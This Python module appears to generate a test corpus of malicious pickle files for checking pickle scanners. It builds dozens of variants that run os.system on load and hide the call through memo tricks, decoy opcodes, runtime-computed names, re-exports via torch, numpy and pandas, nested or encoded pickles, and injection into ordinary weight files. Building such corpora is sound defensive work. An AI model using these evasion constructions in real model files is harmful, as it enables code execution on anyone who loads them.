"""Pickle programs that hide a name: how it is made, in whose module it stands, in which bytes and where in them."""

from __future__ import annotations

import base64
import pickle
import zlib
from collections.abc import Iterator

from corpus.calls import COMMAND, THING
from corpus.carrying import object_npy
from corpus.opcodes import (
    ADDITEMS,
    APPEND,
    BUILD,
    DUP,
    EMPTY_LIST,
    EMPTY_SET,
    EMPTY_TUPLE,
    EVIL,
    FROZENSET,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NONE,
    POP,
    POP_MARK,
    REDUCE,
    STACK_GLOBAL,
    STOP,
    SYSTEM,
    TUPLE,
    blob,
    call,
    dict_of,
    inst,
    list_of,
    literal,
    name,
    new,
    obj,
    program,
    stack_name,
    text,
    tuple_of,
)
from corpus.sample import CANARY, CODE, SHELL, Draft, pickled

SYS_OS = text("os") + text("system")


def drafts() -> Iterator[Draft]:
    """All of them."""
    for part in (grid, names, computed, reexports, nested, places, python2):
        yield from part()


def grid() -> Iterator[Draft]:
    """The plain call in every protocol by every opcode that calls."""
    styles = {
        "reduce": call(name("os", "system"), COMMAND),
        "inst": inst("os", "system", COMMAND),
        "obj": obj(name("os", "system"), COMMAND),
        "stack-global": call(stack_name("os", "system"), COMMAND),
    }
    for style, body in styles.items():
        for protocol in (None, 0, 1, 2, 3, 4, 5):
            yield pickled(f"plain-{style}", program(body, protocol=protocol))


def names() -> Iterator[Draft]:
    """STACK_GLOBAL with names from anywhere but the two opcodes before it."""
    end = STACK_GLOBAL + tuple_of(COMMAND) + REDUCE
    os_, system = text("os"), text("system")
    ways = {
        "memo-binget": b"\x8c\x02osq\x00\x8c\x06systemq\x010" + POP + b"h\x00h\x01",
        "memo-memoize-after-binput": os_ + b"q\x05" + system + MEMOIZE + POP + POP + b"h\x05h\x01",
        "memo-long": os_
        + b"r\x00\x10\x00\x00"
        + system
        + b"r\x01\x10\x00\x00"
        + POP * 2
        + b"j\x00\x10\x00\x00j\x01\x10\x00\x00",
        "memo-text": os_ + b"p7\n" + system + b"p8\n" + POP * 2 + b"g7\ng8\n",
        "memo-overwritten": text("collections")
        + b"q\x00"
        + POP
        + os_
        + b"q\x00"
        + POP
        + text("OrderedDict")
        + b"q\x01"
        + POP
        + system
        + b"q\x01"
        + POP
        + b"h\x00h\x01",
        "memo-leading-zero": os_ + b"p0\n" + POP + b"g000\n" + system,
        "decoy-pop": text("collections") + text("OrderedDict") + POP * 2 + SYS_OS,
        "decoy-pop-between": os_ + text("path") + POP + system,
        "decoy-after": SYS_OS + text("collections") + text("OrderedDict") + POP * 2,
        "decoy-pop-mark": SYS_OS + MARK + text("collections") + text("OrderedDict") + POP_MARK,
        "decoy-mark-pop": os_ + MARK + POP + system,
        "dup": os_ + DUP + POP + system + DUP + POP,
        "unicode-escape": b"V\\u006f\\u0073\nV\\u0073ystem\n",
        "string": b"S'os'\nS'system'\n",
        "string-escape": b"S'\\x6fs'\nS\"s\\171stem\"\n",
        "binstring": b"T\x02\x00\x00\x00osU\x06system",
        "binunicode8": b"\x8d\x02" + bytes(7) + b"os" + b"X\x06\x00\x00\x00system",
        "mixed": b"U\x02osVsystem\n",
        "list-in-between": EMPTY_LIST + os_ + system,
        "none-in-between": NONE + SYS_OS,
    }
    for way, push in ways.items():
        yield pickled(f"name-{way}", program(push + end), cve="picklescan#14" if "binput" in way else "")
    yield pickled(
        "name-memoized-global", program(name("os", "system") + b"q\x00" + POP + b"h\x00" + tuple_of(COMMAND) + REDUCE)
    )
    yield pickled(
        "name-memoized-args", program(tuple_of(COMMAND) + MEMOIZE + POP + name("os", "system") + b"h\x00" + REDUCE)
    )
    yield pickled("name-dup-global", program(name("os", "system") + DUP + tuple_of(COMMAND) + REDUCE + POP + NONE))


def computed() -> Iterator[Draft]:
    """Names and arguments that only exist while the program runs."""
    end = tuple_of(COMMAND) + REDUCE
    strings = {
        "join": call(stack_name("builtins", "str.join"), text(""), literal(["o", "s"])),
        "rot13": call(name("codecs", "decode"), text("bf"), text("rot13")),
        "replace": call(stack_name("builtins", "str.replace"), text("xs"), text("x"), text("o")),
        "lower": call(stack_name("builtins", "str.lower"), text("OS")),
        "add": call(name("operator", "add"), text("o"), text("s")),
        "concat": call(name("_operator", "concat"), text("o"), text("s")),
        "format": call(stack_name("builtins", "str.format"), text("{}s"), text("o")),
        "decode": call(name("builtins", "str"), literal(b"os"), text("ascii")),
        "fromhex": call(
            stack_name("builtins", "bytes.decode"), call(stack_name("builtins", "bytes.fromhex"), text("6f73"))
        ),
        "base64": call(stack_name("builtins", "bytes.decode"), call(name("base64", "b64decode"), text("b3M="))),
        "str": call(name("builtins", "str"), text("os")),
        "newobj": new(name("builtins", "str"), text("os")),
        "codecs-encode": call(name("codecs", "decode"), call(name("_codecs", "encode"), text("os"), text("latin1"))),
        "slice": call(
            name("operator", "getitem"), text("xosx"), call(name("builtins", "slice"), literal(1), literal(3))
        ),
        "reduce": call(name("functools", "reduce"), name("operator", "add"), literal(["o", "s"])),
        "dict-get": call(stack_name("builtins", "dict.get"), literal({"a": "os"}), text("a")),
    }
    for way, expression in strings.items():
        yield pickled(f"computed-name-{way}", program(expression + text("system") + STACK_GLOBAL + end))
    yield pickled(
        "computed-both-names",
        program(strings["join"] + call(stack_name("builtins", "str.lower"), text("SYSTEM")) + STACK_GLOBAL + end),
    )
    tuples = {
        "tuple": call(name("builtins", "tuple"), literal([SHELL])),
        "tuple-newobj": new(name("builtins", "tuple"), literal([SHELL])),
        "concat": call(name("operator", "concat"), EMPTY_TUPLE, literal((SHELL,))),
        "tuple-add": call(stack_name("builtins", "tuple.__add__"), EMPTY_TUPLE, literal((SHELL,))),
        "split": call(name("builtins", "tuple"), call(stack_name("builtins", "str.split"), COMMAND, text("|"))),
    }
    for way, expression in tuples.items():
        yield pickled(f"computed-arguments-{way}", program(name("os", "system") + expression + REDUCE))
    yield pickled(
        "computed-argument",
        program(call(name("os", "system"), call(stack_name("builtins", "str.lower"), text(SHELL.upper())))),
    )


def reexports() -> Iterator[Draft]:
    """Modules that anybody allows, and what they import for themselves."""
    for module, path in (
        ("pathlib", "os.system"),
        ("random", "_os.system"),
        ("tempfile", "_os.system"),
        ("collections", "_sys.modules.get"),
        ("logging", "os.system"),
        ("inspect", "os.system"),
        ("numpy.lib._utils_impl", "os.system"),
        ("torch", "os.system"),
        ("torch.serialization", "os.system"),
        ("torch._utils", "sys.modules.get"),
        ("joblib.numpy_pickle", "os.system"),
        ("pandas.io.common", "os.system"),
        ("xgboost.core", "os.system"),
        ("torch.storage", "io.open"),
        ("sklearn.tree._classes", "np.save"),
        ("torch._tensor", "torch.os.system"),
        ("numpy", "lib._utils_impl.os.system"),
        ("os.path", "os.system"),
    ):
        target = stack_name(module, path)
        if path.endswith("modules.get"):
            body = call(call(name("builtins", "getattr"), call(target, text("os")), text("system")), COMMAND)
        elif path == "io.open":
            body = call(target, text(CANARY), text("w"))
        elif path == "np.save":
            body = call(target, text(CANARY), literal(1))
        else:
            body = call(target, COMMAND)
        yield pickled(f"reexport-{module}", program(body), cve="GHSA-5j3x" if module == "torch" else "")
    yield pickled(
        "reexport-module-then-getattr",
        program(call(call(name("builtins", "getattr"), name("torch", "os"), text("system")), COMMAND)),
    )


def nested() -> Iterator[Draft]:
    """Pickles in the bytes of pickles."""
    twice = program(call(name("pickle", "loads"), literal(EVIL)))
    array = call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), literal((0,)), literal(b"b"))
    ways = {
        "loads": call(name("pickle", "loads"), literal(EVIL)),
        "c-loads": call(name("_pickle", "loads"), literal(EVIL)),
        "cpickle": call(name("cPickle", "loads"), literal(EVIL)),
        "twice": call(name("pickle", "loads"), literal(twice)),
        "zlib": call(name("pickle", "loads"), call(name("zlib", "decompress"), literal(zlib.compress(EVIL)))),
        "base64": call(name("pickle", "loads"), call(name("base64", "b64decode"), literal(base64.b64encode(EVIL)))),
        "torch-storage": call(name("torch.storage", "_load_from_bytes"), literal(EVIL)),
        "cloudpickle": call(name("cloudpickle", "loads"), literal(EVIL)),
        "unpickler": call(
            stack_name("pickle", "Unpickler.load"),
            call(name("pickle", "Unpickler"), call(name("io", "BytesIO"), literal(EVIL))),
        ),
        "joblib": call(name("joblib", "load"), call(name("io", "BytesIO"), literal(EVIL))),
        "pandas": call(name("pandas", "read_pickle"), call(name("io", "BytesIO"), literal(EVIL))),
        "numpy-load": call(
            name("numpy.lib.format", "read_array"),
            call(name("io", "BytesIO"), literal(object_npy(EVIL))),
            literal(True),
        ),
        "marshal": call(name("builtins", "exec"), call(name("marshal", "loads"), literal(_marshalled()))),
        "array-state": array
        + tuple_of(
            literal(1), tuple_of(literal(1)), call(name("numpy", "dtype"), text("O8")), literal(False), list_of(SYSTEM)
        )
        + BUILD,
    }
    for way, body in ways.items():
        yield pickled(f"nested-{way}", program(body, protocol=2 if way == "cpickle" else 4))


def _marshalled() -> bytes:
    import marshal

    return marshal.dumps(compile(CODE, "x", "exec"))


def places() -> Iterator[Draft]:
    """The same call at odd places of honest data."""
    import collections

    state = collections.OrderedDict((f"layer.{i}.weight", [float(i)] * 8) for i in range(20))
    plain = pickle.dumps(state, 2)
    framed = pickle.dumps(state, 4)
    yield pickled("place-before", plain[:2] + SYSTEM + POP + plain[2:])
    yield pickled("place-after", plain[:-1] + SYSTEM + POP + STOP)
    yield pickled("place-replaces", plain[:-1] + POP + SYSTEM + STOP)
    yield pickled("place-after-frame", framed[:-1] + SYSTEM + POP + STOP)
    yield pickled("place-many", plain[:2] + (SYSTEM + POP) * 3 + plain[2:])
    yield pickled("place-dict-key", program(dict_of(SYSTEM, literal(1))))
    yield pickled("place-dict-value", program(dict_of(text("weights"), SYSTEM)))
    yield pickled("place-set", program(EMPTY_SET + MARK + SYSTEM + ADDITEMS))
    yield pickled("place-frozenset", program(MARK + SYSTEM + FROZENSET))
    yield pickled("place-deep", program(b"]" * 500 + SYSTEM + APPEND * 500))
    yield pickled("place-state", program(THING + dict_of(text("x"), SYSTEM) + BUILD))
    yield pickled(
        "place-argument", program(call(name("collections", "OrderedDict"), list_of(list_of(text("a"), SYSTEM))))
    )
    yield pickled("place-after-a-megabyte", program(blob(bytes(1 << 20)) + POP + SYSTEM))
    yield pickled("place-after-many-opcodes", program((NONE + POP) * 100_000 + SYSTEM))
    yield pickled("place-on-the-stack", program(SYSTEM + literal({"weights": [1.0]})))
    yield pickled("place-under-mark", program(MARK + SYSTEM + NONE + POP_MARK + literal({})))
    yield pickled("place-newobj-argument", program(new(name("collections", "OrderedDict"), SYSTEM) + POP + NONE))
    yield pickled("place-second-pickle", plain + EVIL, loader="pickle.repeat")
    yield pickled("place-third-pickle", plain + framed + EVIL, loader="pickle.repeat")
    yield pickled("place-protocol-0", pickle.dumps(state, 0)[:-1] + SYSTEM + POP + STOP)
    yield pickled("place-tuple-unused", program(MARK + SYSTEM + TUPLE + POP + NONE))
    yield pickled("place-class-argument", program(name("builtins", "str") + tuple_of(SYSTEM) + NEWOBJ))


def python2() -> Iterator[Draft]:
    """Names of Python 2, that `pickle` translates for protocols below 3."""
    for module, attribute, arguments in (
        ("commands", "getstatusoutput", COMMAND),
        ("__builtin__", "eval", text(CODE)),
        ("urllib", "urlopen", text(f"http://127.0.0.1:9/{CANARY}")),
        ("os", "popen2", COMMAND),
    ):
        loader = "" if attribute in ("popen2",) else "pickle"
        yield pickled("python-2-name", program(call(name(module, attribute), arguments), protocol=2), loader=loader)
    imap = new(name("itertools", "imap"), name("os", "system"), list_of(COMMAND))
    yield pickled("python-2-imap", program(new(name("__builtin__", "tuple"), imap), protocol=2))
    reduce = call(name("__builtin__", "reduce"), name("os", "system"), list_of(COMMAND, COMMAND))
    yield pickled("python-2-reduce", program(reduce, protocol=2), loader="")
